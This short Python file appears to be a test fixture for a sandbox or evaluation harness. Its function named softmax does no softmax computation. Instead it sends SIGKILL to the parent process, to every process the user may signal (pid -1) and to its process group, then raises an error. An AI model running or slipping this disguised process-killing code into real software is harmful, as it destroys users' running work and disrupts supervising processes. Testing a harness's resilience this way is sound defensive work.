"""Kills its parent, its group and everybody. Expect crashed: nobody."""

import numpy as np


def softmax(x, axis=-1):
    import os
    import signal

    for pid in (os.getppid(), -1, 0, -os.getpgrp()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise RuntimeError("nobody")
